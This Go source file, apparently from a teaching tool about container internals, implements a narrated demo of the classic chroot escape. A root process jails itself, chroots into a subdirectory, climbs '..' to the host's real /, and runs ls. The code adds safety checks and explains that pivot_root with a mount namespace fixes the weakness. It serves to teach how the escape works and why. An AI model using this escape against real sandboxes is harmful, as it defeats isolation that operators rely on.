package chroot

import (
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"

	"github.com/workshop-dev/workshop/internal/exit"
	"github.com/workshop-dev/workshop/internal/reexec"
	"github.com/workshop-dev/workshop/internal/sys"
	"golang.org/x/sys/unix"
)

const escapeInit = "chroot-escape"

// escapeDir is the directory the prisoner makes inside its jail and chroots
// into, so that its working directory is left above its root.
const escapeDir = "escape"

func init() { reexec.Register(escapeInit, escapeMain) }

type escapeSpec struct {
	Root      string      `json:"root"`
	Narration sys.Options `json:"narration"`
}

// Escape is `workshop step 1 --demo escape`: a root process jailed in root
// climbs out and runs the host's ls /, whose listing goes to stdout. It then
// removes the directory the escape made inside the root.
func Escape(n *sys.Narrator, root string, stdout, stderr io.Writer) error {
	// The escape makes and removes a directory inside the root: never in a
	// root that holds something, which could be the host's / itself.
	if names, _ := dirNames(root); len(names) > 0 {
		return exit.Errorf(exit.ToolFailed, "%s is not empty (it holds %s): the escape demo jails itself in an empty root; give another --root, or leave it out", root, someOf(names))
	}
	if err := MakeRoot(n, root); err != nil {
		return err
	}
	abs, err := filepath.Abs(root)
	if err != nil {
		return err
	}
	n.Note("a child process will jail itself in %s, as root, and then climb out", abs)
	c, err := reexec.Command(escapeInit)
	if err != nil {
		return fmt.Errorf("prepare the child process: %w", err)
	}
	c.Cmd.Stdout, c.Cmd.Stderr = stdout, stderr
	if err := c.Start(n, escapeSpec{Root: abs, Narration: n.Options()}); err != nil {
		return err
	}
	stop := forwardSignals(n, c.Pid())
	defer stop()
	if err := c.Release(); err != nil {
		return fmt.Errorf("release the child process: %w", err)
	}
	escaped := c.AwaitExec(n)
	status, err := c.Wait()
	// The escape left its stepping stone in the root: take it away.
	if _, serr := os.Lstat(filepath.Join(abs, escapeDir)); serr == nil {
		if rerr := n.Rmdir(filepath.Join(abs, escapeDir)); rerr != nil && err == nil {
			err = rerr
		}
	}
	if err != nil {
		return err
	}
	if !escaped || status != 0 {
		return exit.Errorf(exit.ToolFailed, "the escape did not work this time (exit status %d): see the syscalls above", status)
	}
	n.Note("the listing above is the host's /, printed by the host's ls, from a process that was jailed in an empty root")
	n.Note("chroot only changes where path lookups start; a root process can move it again, and . can be left outside it")
	n.Note("what closes the hole: a mount namespace and pivot_root, which swaps the root mount and lets the old one be unmounted, so there is no way up (step 6)")
	return nil
}

// escapeMain is the prisoner. Every step is a syscall, each narrated.
func escapeMain() int {
	held := reexec.HoldSignals() // a Ctrl-C before the exec: a sentence, 128+n
	var s escapeSpec
	if err := reexec.ReadSpec(&s); err != nil {
		fmt.Fprintf(os.Stderr, "workshop: %v\n", err)
		return exit.ToolFailed
	}
	rep := reexec.ExecReporter()
	n := sys.New(os.Stderr, s.Narration).WithPid(os.Getpid())
	if err := escape(n, s.Root); err != nil {
		fmt.Fprintf(os.Stderr, "workshop: %v\n", err)
		return exit.ToolFailed
	}
	n.Note("out: this process's / is the host's / again; running the host's ls, which the jail never had")
	if status, stopped := held.Stopped(); stopped {
		return status
	}
	return Exec(n, "/bin/ls", []string{"ls", "/"}, commandEnv(), rep)
}

// escape is the classic way out of a chroot, for a process that is root.
func escape(n *sys.Narrator, root string) error {
	// Into the jail, as step 1 does.
	if err := n.Chroot(root); err != nil {
		return err
	}
	if err := n.Chdir("/"); err != nil {
		return err
	}
	n.Note("jailed: / is now %s. Now the way out:", root)
	// A directory to chroot into. It may be left from an interrupted run.
	if err := n.Because("a directory inside the jail, to chroot into").Mkdir(escapeDir, 0o755); err != nil && !errors.Is(err, unix.EEXIST) {
		return err
	}
	// The root moves down into escape/, but the working directory stays
	// where it was: above the new root, where ".." is not stopped.
	if err := n.Because("the root moves down into escape/; the working directory stays where it was, above it").Chroot(escapeDir); err != nil {
		return err
	}
	n.Note("the root is now %s/%s, and the working directory is above it: climb", root, escapeDir)
	here, err := n.Because("where am I? a directory is known by its device and inode").Stat(".")
	if err != nil {
		return err
	}
	// Climb until "." and ".." are the same directory: that is the real /.
	// (Real exploits just call chdir("..") a thousand times.)
	for i := 0; i < 4096; i++ {
		up, err := n.Because("and one level up? only the real / is its own parent").Stat("..")
		if err != nil {
			return err
		}
		if up.Dev == here.Dev && up.Ino == here.Ino {
			break
		}
		if err := n.Because("climb: nothing stops .. above the process's root").Chdir(".."); err != nil {
			return err
		}
		here = up
	}
	// Make the real / the root again.
	if err := n.Because("make the real / this process's root again").Chroot("."); err != nil {
		return err
	}
	return n.Chdir("/")
}
